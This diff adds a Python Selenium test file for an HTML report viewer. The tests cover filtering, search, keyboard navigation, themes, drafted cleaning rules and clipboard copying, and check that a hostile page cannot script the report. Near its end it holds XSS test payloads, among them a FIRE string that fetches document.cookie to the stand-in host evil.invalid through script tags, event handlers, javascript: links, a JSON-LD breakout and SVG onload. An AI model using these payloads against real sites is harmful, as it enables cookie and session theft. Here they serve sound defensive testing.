@@ -1,0 +1,295 @@
+"""The reports in headless Chromium: filter, search, walk, copy a correction; no request, no error, no script of a page."""
+
+from __future__ import annotations
+
+import shlex
+import time
+import tomllib
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from cleaners.article import Label
+from cleaners.cli import main
+from cleaners.explain import render_report
+from cleaners.pipeline import read
+from cleaners.rules import Rule, Where
+from cleaners.template import read_hints
+from crawler.index import render_index
+from crawler.survey import read_survey
+from tests.browser import PHONE, WIDE, chromium, complaints, requested, resize
+from tests.test_explain import STORY
+from tests.test_report import MARKS, OUTCOMES, invented_rows
+
+pytestmark = pytest.mark.slow  # a browser takes seconds to start
+
+CALL = "关注桥头早点铺，第12期福利等你来"
+
+
+@pytest.fixture(scope="module")
+def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
+    with chromium(tmp_path_factory.mktemp("profile")) as opened:
+        yield opened
+
+
+@pytest.fixture
+def opened(browser: Any, tmp_path: Path) -> Iterator[Any]:
+    """The report of a page, opened; at the end nothing was requested and nothing complained about."""
+    open_report(browser, tmp_path, STORY)
+    yield browser
+    assert (requested(browser), complaints(browser)) == ([], [])
+
+
+def open_report(browser: Any, folder: Path, page: str, name: str = "page.html", url: str | None = None) -> None:
+    file = folder / "report.html"
+    file.write_text(render_report(name, read(page, url)), "utf-8")
+    resize(browser, WIDE)
+    browser.get(file.as_uri())
+
+
+def shown(browser: Any) -> list[str]:
+    """The labels of the blocks that are shown, in order."""
+    return browser.execute_script(  # type: ignore[no-any-return]
+        "return [...document.querySelectorAll('.block')].filter(b => b.offsetParent).map(b => b.dataset.label)"
+    )
+
+
+def press(browser: Any, *keys: str) -> None:
+    """Keys as a person presses them, wherever the focus is."""
+    from selenium.webdriver import ActionChains
+
+    for key in keys:
+        ActionChains(browser).send_keys(key).perform()
+
+
+def find(browser: Any, selector: str) -> Any:
+    return browser.find_element("css selector", selector)
+
+
+def text_of(browser: Any, selector: str) -> str:
+    return str(browser.execute_script("return document.querySelector(arguments[0]).textContent", selector))
+
+
+def draft(browser: Any, label: str, words: str = CALL) -> list[str]:
+    """What the panel drafts when the block with these words is to have another label."""
+    script = "[...document.querySelectorAll('.block')].find(b => b.textContent.includes(arguments[0])).click()"
+    browser.execute_script(script, words)
+    choose = "const c = document.querySelector('#chosen'); c.value = arguments[0]; c.dispatchEvent(new Event('change'))"
+    browser.execute_script(choose, label)
+    return [code.get_attribute("textContent") for code in browser.find_elements("css selector", "#drafts code")]
+
+
+def test_the_legend_filters_by_label(opened: Any) -> None:
+    assert shown(opened) == ["navigation", "headline", "body", "image", "body", "body", "subhead", "credit"]
+    find(opened, ".chip[data-label=body]").click()
+    assert shown(opened) == ["body"] * 3
+    assert text_of(opened, "#shown").startswith("3 of 8 blocks, ")
+    find(opened, ".chip[data-label=credit]").click()
+    assert shown(opened) == ["body"] * 3 + ["credit"]
+    find(opened, "#reset").click()
+    find(opened, "[data-show=removed]").click()
+    assert shown(opened) == ["navigation", "credit"]
+    find(opened, "[data-show=kept]").click()
+    assert shown(opened) == ["headline", "body", "image", "body", "body", "subhead"]
+    press(opened, "\ue00c")  # Esc
+    assert len(shown(opened)) == 8
+
+
+def test_search_finds_words_labels_and_rules(opened: Any) -> None:
+    press(opened, "/")
+    press(opened, "暖色")
+    assert shown(opened) == ["body"]
+    assert opened.execute_script("return CSS.highlights.get('found').size") == 1
+    find(opened, "#search").clear()
+    find(opened, "#search").send_keys("credits.")
+    assert shown(opened) == ["credit"]
+    find(opened, "#search").send_keys("没有的词")
+    assert shown(opened) == []
+    assert find(opened, "#none").is_displayed()
+    press(opened, "\ue00c")
+    assert len(shown(opened)) == 8
+
+
+def test_the_keyboard_walks_over_the_blocks(opened: Any) -> None:
+    current = "return document.querySelector('.block.is-current')?.dataset.label ?? null"
+    assert opened.execute_script(current) is None
+    press(opened, "j", "j", "j")
+    assert opened.execute_script(current) == "body"
+    assert "修桥的工人" in text_of(opened, "#article .is-current")
+    press(opened, "k")
+    assert opened.execute_script(current) == "headline"
+    press(opened, "\ue007")  # Enter
+    assert find(opened, "#panel").is_displayed()
+    press(opened, "\ue00c")
+    assert not find(opened, "#panel").is_displayed()
+    press(opened, "?")
+    assert find(opened, "#help").is_displayed()
+    press(opened, "\ue00c")
+    assert not find(opened, "#help").is_displayed()
+
+
+def test_light_and_dark(opened: Any) -> None:
+    ground = "return getComputedStyle(document.body).backgroundColor"
+    light = opened.execute_script(ground)
+    resize(opened, WIDE, dark=True)
+    dark = opened.execute_script(ground)
+    assert light != dark
+    press(opened, "t")
+    assert opened.execute_script(ground) == light
+    find(opened, "#theme").click()
+    assert opened.execute_script(ground) == dark
+    opened.execute_script("localStorage.clear()")
+
+
+def test_a_phone_shows_one_column_and_nothing_beside_the_screen(opened: Any) -> None:
+    resize(opened, PHONE)
+    assert not find(opened, "#article").is_displayed()
+    find(opened, "[data-view=article]").click()
+    assert find(opened, "#article").is_displayed()
+    assert not find(opened, "#page").is_displayed()
+    assert opened.execute_script("return document.documentElement.scrollWidth") <= PHONE[0]
+
+
+def test_a_drafted_rule_proves_itself(opened: Any) -> None:
+    rule_text, hint_text, command = draft(opened, "promo")
+    rule = eval(rule_text, {"Rule": Rule, "Label": Label, "Where": Where})  # noqa: S307 - what a person would paste
+    assert (rule.label, rule.drops) == (Label.PROMO, (CALL,))
+    assert rule.keeps[0].startswith("关注桥头的人都知道")  # the sentence that begins most like it
+    assert rule.matches("关注桥头早点铺,第13期福利等你来")
+    hint = read_hints(tomllib.loads(hint_text)["page"], "draft")
+    assert (hint.texts[0].label, hint.texts[0].what) == (Label.PROMO, "关注桥头早点铺,第#期福利等你来")
+    assert shlex.split(command) == [
+        *("dute", "fixture", "add", "page.html", "--site", "site", "--case", "promo-not-subhead-6"),
+        *("--gone", CALL, "--label", "promo"),
+    ]
+
+
+def test_a_hint_that_was_drafted_does_what_it_says(opened: Any) -> None:
+    from cleaners import Template, clean
+
+    hint = read_hints(tomllib.loads(draft(opened, "promo")[1])["page"], "draft")
+    assert CALL in clean(STORY).text
+    whole = read_hints(tomllib.loads(draft(opened, "promo")[1].replace("# elements", "elements"))["page"], "draft")
+    assert whole.elements[0].what == "body > div.text"
+    assert CALL not in clean(STORY, template=Template(hints=hint)).text
+
+
+def test_the_command_that_was_drafted_adds_the_fixture(
+    opened: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    (tmp_path / "page.html").write_text(STORY, "utf-8")
+    (tmp_path / "fixtures").mkdir()
+    monkeypatch.chdir(tmp_path)
+    assert main(shlex.split(draft(opened, "promo")[2])[1:]) == 0
+    assert (tmp_path / "fixtures" / "site" / "promo-not-subhead-6" / "checks.toml").is_file()
+
+
+def test_what_a_rule_took_wrongly_becomes_its_keep(opened: Any) -> None:
+    keep, hint, command = draft(opened, "body", "编辑 佟悦")
+    assert keep.startswith("# credits.line: add to its keeps")
+    assert '"编辑 佟悦"' in keep
+    assert read_hints(tomllib.loads(hint)["page"], "draft").body[0].what == "body"
+    assert "--kept '编辑 佟悦'" in command
+
+
+def test_a_snippet_is_copied(opened: Any) -> None:
+    allow = {"permissions": ["clipboardReadWrite", "clipboardSanitizedWrite"]}
+    opened.execute_cdp_cmd("Browser.grantPermissions", allow)
+    rule_text = draft(opened, "promo")[0]
+    find(opened, "#drafts .copy").click()
+    deadline = time.monotonic() + 5
+    while text_of(opened, "#drafts .copy") != "Copied" and time.monotonic() < deadline:
+        time.sleep(0.02)
+    assert text_of(opened, "#drafts .copy") == "Copied"
+    assert opened.execute_async_script("navigator.clipboard.readText().then(arguments[0])") == rule_text
+
+
+@pytest.fixture
+def index(browser: Any, tmp_path: Path) -> Iterator[Any]:
+    """The index of an invented site with a report of its most doubtful page, opened."""
+    survey = read_survey("桥头", invented_rows())
+    worst = survey.doubtful()[0][0]
+    (tmp_path / "pages").mkdir()
+    (tmp_path / "pages" / "x.html").write_text(render_report("x.html", read(STORY), home="../index.html"), "utf-8")
+    document = render_index(survey, outcomes=OUTCOMES, marks=MARKS, reports={worst.row: "pages/x.html"})
+    (tmp_path / "index.html").write_text(document, "utf-8")
+    resize(browser, WIDE)
+    browser.get((tmp_path / "index.html").as_uri())
+    yield browser
+    assert (requested(browser), complaints(browser)) == ([], [])
+
+
+def test_the_index_is_searched_sorted_and_left_for_a_page(index: Any) -> None:
+    shown_rows = "return [...document.querySelectorAll('.page')].filter(r => !r.hidden)"
+    assert index.execute_script(f"{shown_rows}.length") == 400
+    press(index, "/")
+    press(index, "template_disagrees")
+    found = index.execute_script(f"{shown_rows}.map(r => r.textContent)")
+    assert 0 < len(found) < 400
+    assert all("template_disagrees" in text for text in found)
+    press(index, "\ue00c")
+    find(index, "[data-sort=characters]").click()
+    longest = index.execute_script(f"{shown_rows}.map(r => Number(r.dataset.characters))")
+    assert longest == sorted(longest, reverse=True)
+    find(index, "[data-sort=score]").click()
+    press(index, "j", "\ue007")
+    assert text_of(index, "h1") == "桥上的灯又亮了"
+    find(index, ".mark a").click()
+    assert text_of(index, "h1") == "桥头"
+
+
+@pytest.mark.parametrize("dark", [False, True], ids=["light", "dark"])
+def test_the_index_fits_a_phone(index: Any, dark: bool) -> None:
+    resize(index, PHONE, dark=dark)
+    assert index.execute_script("return document.documentElement.scrollWidth") <= PHONE[0]
+    paths = (
+        "return [...document.querySelectorAll('.spark path')].every(p => p.getBBox().width > 0 || !p.getAttribute('d'))"
+    )
+    assert index.execute_script(paths)
+
+
+FIRE = "window.fired = 1; fetch('https://evil.invalid/' + document.cookie)"
+
+#: Five pages that try to script, load or draw in the report, and how.
+HOSTILE = {
+    "script in the headline": f"<h1>&lt;script&gt;{FIRE}&lt;/script&gt;桥上的灯</h1><p>&lt;/style&gt;&lt;script&gt;{FIRE}&lt;/script&gt;修桥的工人在天亮前收了工，桥头的早点铺正好开门。</p>",
+    "event handlers": f'<h1>灯&lt;img src=x onerror="{FIRE}"&gt;" onmouseover="{FIRE}" x="</h1><p onclick="{FIRE}">\' onfocus=\'{FIRE}\' autofocus tabindex=0 修桥的工人在天亮前收了工，桥头的早点铺正好开门。</p><img src="x.jpg&quot; onerror=&quot;{FIRE}">',
+    "javascript: addresses": f'<base href="https://evil.invalid/"><h1>桥上的灯又亮了</h1><p><a href="javascript:{FIRE}">修桥的工人在天亮前收了工</a>，桥头的早点铺正好开门，蒸汽漫过栏杆。</p><img src="javascript:{FIRE}"><img src="https://evil.invalid/pixel.gif"><video src="https://evil.invalid/v.mp4"></video>',
+    "end of the script in JSON": f'<script type="application/ld+json">{{"@type":"NewsArticle","headline":"灯\\u003c/script>\\u003cscript>{FIRE}\\u003c/script>","author":"\\u003c/script>\\u003cscript>{FIRE}","image":"https://evil.invalid/\\"onload=\\"x"}}</script><h1>桥上的灯</h1><p>${{{FIRE}}} {{{{ 7*7 }}}} {{% raw %}} 修桥的工人在天亮前收了工，桥头的早点铺正好开门。</p>',
+    "SVG and styles": f'<svg onload="{FIRE}"><script>{FIRE}</script></svg><h1>桥上的灯</h1><div class="&quot;&gt;&lt;style&gt;*{{display:none}}&lt;/style&gt; x]{{}}body{{background:url(https://evil.invalid/c)}}" id="b0" style="background:url(https://evil.invalid/s)"><p>&lt;svg onload="{FIRE}"&gt;修桥的工人在天亮前收了工，桥头的早点铺正好开门，蒸汽漫过栏杆。</p></div>',
+}
+
+
+@pytest.mark.parametrize("attack", HOSTILE)
+def test_a_page_cannot_script_its_report(browser: Any, tmp_path: Path, attack: str) -> None:
+    page = f"<html><head><title>x</title></head><body>{HOSTILE[attack]}<p>编辑 佟悦</p></body></html>"
+    name = "'\"><script>window.fired=1</script>.html"
+    open_report(browser, tmp_path, page, name, 'https://evil.invalid/"><script>window.fired=1</script>')
+    for label in ("promo", "body", "headline"):
+        for block in range(browser.execute_script("return document.querySelectorAll('.block').length")):
+            browser.execute_script(f"document.querySelectorAll('.block')[{block}].click()")
+            browser.execute_script(
+                f"const c = document.querySelector('#chosen'); c.value = '{label}'; c.dispatchEvent(new Event('change')); document.querySelector('#panel').close()"
+            )
+    assert browser.execute_script("return window.fired ?? null") is None
+    foreign = (
+        "return [...document.querySelectorAll('script, style, img, video, iframe, link, base')].map(e => e.tagName)"
+    )
+    assert browser.execute_script(foreign) == ["STYLE", "SCRIPT"]
+    handlers = "return [...document.querySelectorAll('*')].flatMap(e => e.getAttributeNames()).filter(n => /^on|^style$/.test(n))"
+    assert browser.execute_script(handlers) == []
+    links = "return [...document.links].map(a => a.protocol).filter(p => p !== 'https:' && p !== 'file:')"
+    assert browser.execute_script(links) == []
+    assert len(shown(browser)) >= 3  # nothing of the page drew over the report or hid it
+    assert (requested(browser), complaints(browser)) == ([], [])
+
+
+def test_the_tests_would_see_a_request_and_a_breach(browser: Any, tmp_path: Path) -> None:
+    file = tmp_path / "leaky.html"
+    policy = "<meta http-equiv='Content-Security-Policy' content=\"script-src 'none'\">"
+    file.write_text(f"{policy}<img src='missing.png'><script>1</script>", "utf-8")
+    browser.get(file.as_uri())
+    assert requested(browser) == [(tmp_path / "missing.png").as_uri()]
+    assert any("Content Security Policy" in message for message in complaints(browser))
